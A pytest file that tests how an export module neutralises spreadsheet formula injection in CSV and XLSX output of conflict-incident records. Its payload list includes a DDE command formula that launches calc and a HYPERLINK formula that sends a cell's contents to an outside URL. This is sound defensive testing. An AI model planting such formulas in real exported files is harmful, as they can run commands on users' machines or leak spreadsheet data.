"""Promises of cells: nothing that a spreadsheet runs, and nothing lost."""

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from recoupe.export.cells import clean, joined, number, tamed, untamed, written
from tests.export.samples import lines, selection
from tests.export.samples import written as files_of

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_is_neutralised(payload: str) -> None:
    """Words that begin as a formula does begin with an apostrophe in the cell, and come back whole."""
    assert tamed(payload).startswith("'")
    assert untamed(tamed(payload)) == payload


@given(st.text())
def test_words_come_back(words: str) -> None:
    """Whatever words go into a cell come back out of it, and none of them begins as a formula does."""
    assert untamed(tamed(words)) == words
    assert not tamed(words).lstrip(" ").startswith(DANGEROUS)


@pytest.mark.parametrize("words", ["Bamako", "12 morts", "'quoted'", "l'armée", "", "3 = 3", "a-b"])
def test_harmless_words_stay(words: str) -> None:
    """Words that no spreadsheet runs are written as they are."""
    assert tamed(words) == words


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-3, "-3"), (40.0, "40"), (-0.55, "-0.55"), (1e-7, "0.0000001"), (0.1 + 0.2, "0.3"), (2500000, "2500000"), (None, "")],
)
def test_numbers_stay_numbers(value: float | None, cell: str) -> None:
    """A number is written as a number, the negative one too, without exponent and noise."""
    assert written(value) == cell


def test_list_is_one_cell() -> None:
    """A list is one cell, each item once; a sign that joins is told apart from one inside an item."""
    assert joined(["b", "a", "b", None, ""]) == "b|a"
    assert joined(["a|b", "c\\d"]) == "a\\|b|c\\\\d"
    assert joined([]) is None


def test_unwritable_characters_are_shown_as_such() -> None:
    """Characters that XML cannot hold, and half characters, become U+FFFD; the others stay."""
    assert clean("a\x00b\x0bc\ud800d\ne\tf é 😀") == "a\ufffdb\ufffdc\ufffdd\ne\tf é 😀"
    assert number(1.5) == "1.5"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_every_field_of_words_stays_words(payload: str) -> None:
    """A payload that a report smuggled into names, headlines and reasons is words in every cell of CSV and of the workbook."""
    hostile = selection(incidents=[poisoned(one, payload) for one in lines("incidents")], records=[poisoned(one, payload) for one in lines("records")])
    tables = [content for name, content in (*files_of("csv", hostile).items(), *files_of("acled", hostile).items(), *files_of("ucdp", hostile).items())]
    cells = [cell for content in tables for row in csv.reader(io.StringIO(content.decode("utf-8"), newline="")) for cell in row]
    (book,) = files_of("xlsx", hostile).values()
    sheets = openpyxl.load_workbook(io.BytesIO(book))

    assert any(payload in untamed(cell) for cell in cells)
    assert [cell for cell in cells if cell.lstrip(" ").startswith(DANGEROUS) and not is_number(cell)] == []
    assert {cell.data_type for sheet in sheets for row in sheet.iter_rows() for cell in row} <= {"s", "n"}


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def poisoned(value: object, payload: str, key: str = "") -> object:
    """Put a payload for the words of a record that come from outside."""
    if isinstance(value, dict):
        return {name: poisoned(item, payload, name) for name, item in value.items()}
    if isinstance(value, list):
        return [poisoned(item, payload, key) for item in value]
    return payload if isinstance(value, str) and key in {"name", "text", "source", "origin", "outlet", "reasons", "admin1"} else value
